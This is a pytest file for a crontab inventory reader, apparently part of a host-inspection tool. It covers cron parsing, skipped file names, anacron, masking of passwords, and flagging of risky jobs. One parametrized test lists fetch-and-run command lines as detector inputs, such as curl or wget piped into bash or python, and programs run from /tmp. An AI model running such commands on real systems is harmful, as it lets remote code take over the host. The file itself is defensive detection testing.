from __future__ import annotations

import shutil
import tempfile
from pathlib import Path

import pytest

from tabletest import make_root, read_table, rows, rows_of

CRON = {"/usr/sbin/cron": "", "/var/lib/dpkg/status": ""}
EXECUTABLE = {"/usr/sbin/cron": 0o755}
SYSTEM = """# comment
SHELL=/bin/sh
PATH = "/usr/local/bin:/usr/bin"
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
@reboot backup /opt/backup.sh > /dev/null
*/5 1-3 * jan mon-fri root FOO=1 /usr/bin/x

* * * * root
no such line
"""


def cron_root(folder: Path, files: dict, modes: dict | None = None) -> Path:
    return make_root(folder, {**CRON, **files}, {**EXECUTABLE, **(modes or {})})


def test_system_crontabs_name_the_user(tmp_path):
    found = rows("crontab", cron_root(tmp_path, {"/etc/crontab": SYSTEM}))
    assert [(row["line"], row["event"], row["minute"], row["username"], row["command"]) for row in found] == [
        (4, "", "17", "root", "cd / && run-parts --report /etc/cron.hourly"),
        (5, "@reboot", "", "backup", "/opt/backup.sh > /dev/null"),
        (6, "", "*/5", "root", "FOO=1 /usr/bin/x"),
    ]
    assert (found[2]["hour"], found[2]["month"], found[2]["day_of_week"]) == ("1-3", "jan", "mon-fri")


def test_files_with_names_that_cron_skips_are_left_out(tmp_path):
    line = "* * * * * root /bin/true\n"
    names = ("good-1", "with.dot", "backup~", ".placeholder")
    root = cron_root(tmp_path, {f"/etc/cron.d/{name}": line for name in names})
    assert [row["path"] for row in rows("crontab", root)] == ["/etc/cron.d/good-1"]


def test_on_other_systems_names_with_dots_count(tmp_path):
    line = "* * * * * root /bin/true\n"
    root = make_root(
        tmp_path,
        {"/usr/sbin/crond": "", **{f"/etc/cron.d/{name}": line for name in ("a.cron", "b.rpmsave", "c~")}},
        {"/usr/sbin/crond": 0o755},
    )
    assert [row["path"] for row in rows("crontab", root)] == ["/etc/cron.d/a.cron"]


def test_a_persons_crontab_runs_with_their_rights(tmp_path):
    root = cron_root(tmp_path, {"/var/spool/cron/crontabs/ayesha": "0 3 * * * ~/backup.sh --all\n@daily x\n"})
    found = rows("crontab", root)
    assert [(row["username"], row["command"]) for row in found] == [("ayesha", "~/backup.sh --all"), ("ayesha", "x")]


def test_scripts_of_cron_daily_count_when_they_may_run(tmp_path):
    files = {
        "/etc/cron.daily/dpkg": "",
        "/etc/cron.daily/off": "",
        "/etc/cron.daily/x.sh": "",
        "/etc/cron.weekly/w": "",
    }
    root = cron_root(
        tmp_path, files, {"/etc/cron.daily/dpkg": 0o755, "/etc/cron.daily/x.sh": 0o755, "/etc/cron.weekly/w": 0o755}
    )
    assert [(row["path"], row["event"], row["line"]) for row in rows("crontab", root)] == [
        ("/etc/cron.daily/dpkg", "@daily", None),
        ("/etc/cron.weekly/w", "@weekly", None),
    ]


def test_anacron_counts_only_when_it_is_installed(tmp_path):
    text = "SHELL=/bin/sh\n1 5 cron.daily run-parts /etc/cron.daily\n@monthly 15 m /opt/m\n"
    root = cron_root(tmp_path, {"/etc/anacrontab": text})
    assert rows("crontab", root) == []
    make_root(tmp_path, {"/usr/sbin/anacron": ""}, {"/usr/sbin/anacron": 0o755})
    assert [(row["event"], row["command"]) for row in rows("crontab", root)] == [
        ("every 1 days", "run-parts /etc/cron.daily"),
        ("@monthly", "/opt/m"),
    ]


def test_left_over_crontabs_start_nothing_without_cron(tmp_path):
    data = read_table("crontab", make_root(tmp_path, {"/etc/crontab": SYSTEM}))
    assert (data.status, data.reason) == ("absent", "no cron is installed")


def test_passwords_in_commands_are_not_shown(tmp_path):
    line = (
        "0 1 * * * root mysqldump -u root -pHunter2secret9 shop\n0 2 * * * root curl https://u:geheim77x@example.org/\n"
    )
    found = rows("crontab", cron_root(tmp_path, {"/etc/crontab": line}))
    assert found[0]["command"] == "mysqldump ****"
    assert found[0]["secret"] != ""
    assert not any("unter2" in str(row) or "geheim" in str(row) for row in found)


@pytest.mark.parametrize(
    ("command", "download", "temporary"),
    [
        ("curl -s http://203.0.113.9/x.sh | bash", 1, 0),
        ("wget -qO- http://x.example/a | sudo /usr/bin/python3 -", 1, 0),
        ('sh -c "$(curl -fsSL https://x.example)"', 1, 0),
        ("bash <(curl -s https://x.example)", 1, 0),
        ("curl -fsS https://hc.example.org/ping | logger", 0, 0),
        ("echo x | sh; curl https://x.example", 0, 0),
        ("/tmp/.x/update >/dev/null", 0, 1),
        ("cd / && sh -x /var/tmp/a.sh", 0, 1),
        ("find /tmp/cache -mtime +7 -delete", 0, 0),
        ("cp a /tmp/b", 0, 0),
    ],
)
def test_jobs_that_run_downloads_or_temporary_programs_are_marked(tmp_path, command, download, temporary):
    (row,) = rows("crontab", cron_root(tmp_path, {"/etc/crontab": f"@daily root {command}\n"}))
    assert (row["runs_download"], row["runs_temporary"]) == (download, temporary)


def test_closed_crontabs_make_the_answer_partial(as_nobody):
    folder = Path(tempfile.mkdtemp())
    try:
        folder.chmod(0o755)
        root = cron_root(
            folder,
            {"/etc/crontab": SYSTEM, "/var/spool/cron/crontabs/root": "@daily x\n"},
            {"/var/spool/cron/crontabs": 0o700},
        )

        def read():
            data = read_table("crontab", root)
            return data.status, data.needs, len(rows_of(data))

        assert as_nobody(read) == ("partial", "root", 3)
    finally:
        shutil.rmtree(folder)


def test_hostile_text_costs_little(tmp_path):
    text = "=" * 200_000 + "\n" + "* " * 100_000 + "\n" + "\x00\xff\n@" + "\n* * * * * root " + "a" * 10_000 + "\n"
    data = read_table("crontab", cron_root(tmp_path, {"/etc/crontab": text.encode("latin-1")}))
    assert (data.status, len(data.rows)) == ("partial", 2)  # the overlong command is cut and that is said


def test_a_cron_that_cannot_be_looked_for_is_not_absent(tmp_path: Path) -> None:
    generator = "usr/lib/systemd/system-generators/systemd-crontab-generator"
    root = make_root(tmp_path, {"/etc/crontab": "* * * * * root /bin/true\n", f"/{generator}x": ""})
    (root / generator).symlink_to(f"/{generator}")
    data = read_table("crontab", root)
    assert (data.status, generator in str(data.reason)) == ("denied", True)


def test_a_package_list_that_cannot_be_looked_for_leaves_the_names_open(tmp_path: Path) -> None:
    root = make_root(tmp_path, {"/usr/sbin/cron": "", "/etc/cron.d/x.y": "* * * * * root a\n", "/var/lib/dpkg/x": ""})
    (root / "usr/sbin/cron").chmod(0o755)
    (root / "var/lib/dpkg/status").symlink_to("/var/lib/dpkg/status")
    assert read_table("crontab", root).status == "partial"
